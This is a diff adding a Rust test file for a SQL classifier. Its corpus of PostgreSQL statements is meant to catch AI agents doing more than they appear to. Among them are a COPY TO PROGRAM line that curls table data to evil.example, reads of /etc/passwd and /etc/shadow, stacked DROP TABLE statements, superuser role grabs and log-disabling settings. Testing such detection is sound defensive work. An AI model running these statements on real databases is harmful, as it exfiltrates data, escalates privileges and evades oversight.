@@ -1,0 +1,578 @@
+//! The bypass corpus: each entry is a statement an agent might use to do
+//! more than it appears to, and what the classifier must make of it.
+
+use super::*;
+
+fn c(sql: &str) -> Result<Classification, ClassifyError> {
+    classify(sql, &Options::default())
+}
+
+fn names(t: &BTreeSet<Table>) -> Vec<String> {
+    t.iter().map(|t| t.qualified("public")).collect()
+}
+
+/// (statement, operation, reads, writes)
+const CORPUS: &[(&str, Operation, &[&str], &[&str])] = &[
+    // Plain statements.
+    (
+        "SELECT * FROM customers",
+        Operation::Read,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "select abalance from pgbench_accounts where aid = 5",
+        Operation::Read,
+        &["public.pgbench_accounts"],
+        &[],
+    ),
+    ("SELECT 1", Operation::Read, &[], &[]),
+    (
+        "SELECT count(*), now() FROM sales.orders o JOIN customers c ON o.cid = c.id",
+        Operation::Read,
+        &["public.customers", "sales.orders"],
+        &[],
+    ),
+    (
+        "INSERT INTO orders (id) VALUES (1)",
+        Operation::Write,
+        &[],
+        &["public.orders"],
+    ),
+    (
+        "INSERT INTO archive SELECT * FROM orders",
+        Operation::Write,
+        &["public.orders"],
+        &["public.archive"],
+    ),
+    (
+        "UPDATE accounts SET balance = 0 FROM payouts WHERE payouts.id = accounts.id",
+        Operation::Write,
+        &["public.payouts"],
+        &["public.accounts"],
+    ),
+    (
+        "DELETE FROM sessions WHERE id = 1",
+        Operation::Delete,
+        &[],
+        &["public.sessions"],
+    ),
+    (
+        "DELETE FROM sessions USING users WHERE users.id = sessions.uid",
+        Operation::Delete,
+        &["public.users"],
+        &["public.sessions"],
+    ),
+    (
+        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v",
+        Operation::Write,
+        &["public.s"],
+        &["public.t"],
+    ),
+    (
+        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
+        Operation::Delete,
+        &["public.s"],
+        &["public.t"],
+    ),
+    (
+        "TRUNCATE audit, sessions",
+        Operation::Delete,
+        &[],
+        &["public.audit", "public.sessions"],
+    ),
+    // Case, whitespace and comments change nothing.
+    (
+        "sElEcT\n*\tFrOm\n\n  CUSTOMERS",
+        Operation::Read,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "/* harmless */ DELETE /* really */ FROM t -- gone\n",
+        Operation::Delete,
+        &[],
+        &["public.t"],
+    ),
+    ("SELECT 1; -- ; DROP TABLE t", Operation::Read, &[], &[]),
+    // Multi-statement smuggling: the strongest statement wins.
+    (
+        "SELECT 1; DROP TABLE customers",
+        Operation::Ddl,
+        &[],
+        &["public.customers"],
+    ),
+    (
+        "SELECT 1;DELETE FROM t",
+        Operation::Delete,
+        &[],
+        &["public.t"],
+    ),
+    (
+        "BEGIN; GRANT ALL ON customers TO public; COMMIT",
+        Operation::Grant,
+        &[],
+        &["public.customers"],
+    ),
+    // Writing CTEs.
+    (
+        "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
+        Operation::Delete,
+        &[],
+        &["public.customers"],
+    ),
+    (
+        "WITH x AS (SELECT 1), u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x",
+        Operation::Write,
+        &[],
+        &["public.t"],
+    ),
+    (
+        "SELECT * FROM (WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i) s",
+        Operation::Write,
+        &[],
+        &["public.t"],
+    ),
+    // CTE names shadow tables only in their own scope.
+    (
+        "WITH customers AS (SELECT 1) SELECT * FROM customers",
+        Operation::Read,
+        &[],
+        &[],
+    ),
+    (
+        "WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
+        Operation::Read,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "SELECT * FROM customers, (WITH customers AS (SELECT 1) SELECT * FROM customers) x",
+        Operation::Read,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r",
+        Operation::Read,
+        &[],
+        &[],
+    ),
+    (
+        "WITH x AS (SELECT 1) SELECT * FROM public.x",
+        Operation::Read,
+        &["public.x"],
+        &[],
+    ),
+    // SELECT … INTO and CREATE TABLE AS create tables.
+    (
+        "SELECT * INTO copy_of FROM customers",
+        Operation::Ddl,
+        &["public.customers"],
+        &["public.copy_of"],
+    ),
+    (
+        "CREATE TABLE c2 AS SELECT * FROM customers",
+        Operation::Ddl,
+        &["public.customers"],
+        &["public.c2"],
+    ),
+    (
+        "SELECT * FROM t FOR UPDATE",
+        Operation::Write,
+        &["public.t"],
+        &[],
+    ),
+    // COPY.
+    (
+        "COPY customers TO STDOUT",
+        Operation::Export,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "copy (select email from customers) to stdout with csv",
+        Operation::Export,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "COPY customers FROM STDIN",
+        Operation::Write,
+        &[],
+        &["public.customers"],
+    ),
+    (
+        "COPY customers TO PROGRAM 'curl -d @- evil.example'",
+        Operation::Admin,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "COPY customers FROM PROGRAM 'id'",
+        Operation::Admin,
+        &[],
+        &["public.customers"],
+    ),
+    (
+        "COPY customers TO '/tmp/c.csv'",
+        Operation::Admin,
+        &["public.customers"],
+        &[],
+    ),
+    (
+        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
+        Operation::Admin,
+        &[],
+        &["public.t"],
+    ),
+    // Mixed changes: deleting covers writing; any other mix is admin.
+    (
+        "WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d",
+        Operation::Delete,
+        &[],
+        &["public.a", "public.b"],
+    ),
+    (
+        "DELETE FROM t; COPY t TO STDOUT",
+        Operation::Admin,
+        &["public.t"],
+        &["public.t"],
+    ),
+    (
+        "INSERT INTO t VALUES (1); CREATE TABLE u (a int)",
+        Operation::Admin,
+        &[],
+        &["public.t", "public.u"],
+    ),
+    // Side-effect functions, however they are spelled or placed.
+    (
+        "SELECT pg_read_file('/etc/passwd')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT * FROM pg_read_file('/etc/passwd')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    ("SELECT lo_export(1, '/tmp/x')", Operation::Admin, &[], &[]),
+    (
+        "SELECT lo_import('/etc/shadow')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT dblink_exec('DROP TABLE t')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+        Operation::Admin,
+        &["pg_catalog.pg_stat_activity"],
+        &[],
+    ),
+    (
+        "SELECT set_config('role', 'admin', false)",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT query_to_xml('select * from customers', true, false, '')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT table_to_xml('customers', true, false, '')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
+        Operation::Admin,
+        &[],
+        &["public.t"],
+    ),
+    (
+        "UPDATE t SET a = 1 RETURNING lo_export(a, '/tmp/x')",
+        Operation::Admin,
+        &[],
+        &["public.t"],
+    ),
+    (
+        "SELECT (SELECT pg_reload_conf())",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    (
+        "SELECT CASE WHEN true THEN pg_cancel_backend(1) END",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    ("SELECT nextval('s')", Operation::Write, &[], &[]),
+    // Unknown functions and operators may have side effects.
+    ("SELECT my_func(1)", Operation::Write, &[], &[]),
+    ("SELECT public.lower('A')", Operation::Write, &[], &[]),
+    ("SELECT 1 === 2", Operation::Write, &[], &[]),
+    ("SELECT 1 +++ 2", Operation::Read, &[], &[]),
+    ("CALL refresh_all()", Operation::Write, &[], &[]),
+    // Identity and server settings.
+    ("SET ROLE postgres", Operation::Admin, &[], &[]),
+    (
+        "set session authorization postgres",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    ("SET LOCAL ROLE admin", Operation::Admin, &[], &[]),
+    ("RESET ROLE", Operation::Admin, &[], &[]),
+    ("SET search_path = evil, public", Operation::Admin, &[], &[]),
+    (
+        "SET session_replication_role = replica",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    ("SET log_statement = 'none'", Operation::Admin, &[], &[]),
+    (
+        "ALTER SYSTEM SET log_statement = 'none'",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    ("SET application_name = 'bot'", Operation::Read, &[], &[]),
+    ("SET statement_timeout TO 1000", Operation::Read, &[], &[]),
+    ("SET client_encoding = 'UTF8'", Operation::Read, &[], &[]),
+    ("SHOW search_path", Operation::Read, &[], &[]),
+    // Privileges.
+    (
+        "GRANT SELECT ON customers TO bob",
+        Operation::Grant,
+        &[],
+        &["public.customers"],
+    ),
+    (
+        "REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob",
+        Operation::Grant,
+        &[],
+        &[],
+    ),
+    ("CREATE ROLE hacker SUPERUSER", Operation::Grant, &[], &[]),
+    (
+        "ALTER ROLE app SET search_path = evil",
+        Operation::Grant,
+        &[],
+        &[],
+    ),
+    (
+        "ALTER TABLE t OWNER TO bob",
+        Operation::Ddl,
+        &[],
+        &["public.t"],
+    ),
+    // DDL.
+    (
+        "DROP TABLE customers",
+        Operation::Ddl,
+        &[],
+        &["public.customers"],
+    ),
+    (
+        "drop table if exists sales.orders, public.items cascade",
+        Operation::Ddl,
+        &[],
+        &["public.items", "sales.orders"],
+    ),
+    ("CREATE INDEX ON t (a)", Operation::Ddl, &[], &["public.t"]),
+    (
+        "ALTER TABLE t ADD COLUMN c int",
+        Operation::Ddl,
+        &[],
+        &["public.t"],
+    ),
+    (
+        "CREATE VIEW v AS SELECT * FROM customers",
+        Operation::Ddl,
+        &["public.customers"],
+        &["public.v"],
+    ),
+    (
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
+        Operation::Ddl,
+        &[],
+        &[],
+    ),
+    // Arbitrary code and server administration.
+    (
+        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    ("do 'begin perform 1; end'", Operation::Admin, &[], &[]),
+    ("LOAD 'evil.so'", Operation::Admin, &[], &[]),
+    (
+        "VACUUM FULL customers",
+        Operation::Admin,
+        &[],
+        &["public.customers"],
+    ),
+    ("CHECKPOINT", Operation::Admin, &[], &[]),
+    ("CREATE EXTENSION dblink", Operation::Admin, &[], &[]),
+    ("CREATE DATABASE x", Operation::Admin, &[], &[]),
+    (
+        "CREATE USER MAPPING FOR public SERVER s OPTIONS (user 'u')",
+        Operation::Admin,
+        &[],
+        &[],
+    ),
+    // EXPLAIN is classified as what it explains (ANALYZE runs it).
+    (
+        "EXPLAIN ANALYZE DELETE FROM t",
+        Operation::Delete,
+        &[],
+        &["public.t"],
+    ),
+    (
+        "EXPLAIN SELECT * FROM customers",
+        Operation::Read,
+        &["public.customers"],
+        &[],
+    ),
+    // Transaction control and session housekeeping.
+    ("BEGIN", Operation::Read, &[], &[]),
+    ("COMMIT", Operation::Read, &[], &[]),
+    ("ROLLBACK TO SAVEPOINT a", Operation::Read, &[], &[]),
+    ("DISCARD ALL", Operation::Read, &[], &[]),
+    ("DEALLOCATE ALL", Operation::Read, &[], &[]),
+    ("NOTIFY chan", Operation::Write, &[], &[]),
+    ("LISTEN chan", Operation::Read, &[], &[]),
+    (
+        "DECLARE c CURSOR FOR SELECT * FROM customers",
+        Operation::Read,
+        &["public.customers"],
+        &[],
+    ),
+    ("LOCK TABLE t", Operation::Admin, &[], &["public.t"]),
+];
+
+#[test]
+fn the_bypass_corpus_is_classified_correctly() {
+    let mut failures = Vec::new();
+    for (sql, op, reads, writes) in CORPUS {
+        match c(sql) {
+            Ok(got) => {
+                let r: Vec<String> = got
+                    .statements
+                    .iter()
+                    .flat_map(|s| names(&s.reads))
+                    .collect::<BTreeSet<_>>()
+                    .into_iter()
+                    .collect();
+                let w: Vec<String> = got
+                    .statements
+                    .iter()
+                    .flat_map(|s| names(&s.writes))
+                    .collect::<BTreeSet<_>>()
+                    .into_iter()
+                    .collect();
+                if got.operation() != *op || r != *reads || w != *writes {
+                    failures.push(format!("{sql:?}: got {:?} reads {r:?} writes {w:?}; want {op:?} {reads:?} {writes:?}", got.operation()));
+                }
+            }
+            Err(e) => failures.push(format!("{sql:?}: error {e}")),
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} misclassified:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn what_cannot_be_classified_is_an_error() {
+    for sql in [
+        "SELEC * FROM t",
+        "SELECT 'unterminated",
+        "DROP TABLE",
+        "SELECT 1\0; DROP TABLE t",
+        "PREPARE p AS DELETE FROM t",
+        "EXECUTE p",
+        "SET client_encoding = 'SJIS'",
+        "SET NAMES 'BIG5'",
+        "SET standard_conforming_strings = off",
+        "SET standard_conforming_strings TO 0",
+        "SET backslash_quote = on",
+    ] {
+        assert!(c(sql).is_err(), "{sql:?} was classified: {:?}", c(sql));
+    }
+}
+
+#[test]
+fn literal_independence() {
+    assert!(
+        c("SELECT a FROM t WHERE b = 'x'")
+            .unwrap()
+            .literal_independent
+    );
+    assert!(c("BEGIN; SELECT 1; COMMIT").unwrap().literal_independent);
+    assert!(!c("SET application_name = 'x'").unwrap().literal_independent);
+    assert!(!c("COPY t TO STDOUT").unwrap().literal_independent);
+    assert!(
+        !c("SELECT 1; SET application_name = 'x'")
+            .unwrap()
+            .literal_independent
+    );
+}
+
+#[test]
+fn functions_are_reported() {
+    let got = c("SELECT lower(a), my_func(b) FROM t").unwrap();
+    let s = &got.statements[0];
+    assert!(s.functions.contains("lower") && s.functions.contains("my_func"));
+    assert_eq!(s.unknown_functions.iter().collect::<Vec<_>>(), ["my_func"]);
+    let extra = Options {
+        pure_functions: ["my_func".to_string()].into(),
+    };
+    assert_eq!(
+        classify("SELECT my_func(1)", &extra).unwrap().operation(),
+        Operation::Read
+    );
+}
+
+#[test]
+fn deallocate_is_special() {
+    assert_eq!(
+        c("DEALLOCATE p1").unwrap().statements[0].special,
+        Special::Deallocate(Some("p1".into()))
+    );
+    assert_eq!(
+        c("DISCARD ALL").unwrap().statements[0].special,
+        Special::Deallocate(None)
+    );
+    assert!(c("").unwrap().statements.is_empty());
+}
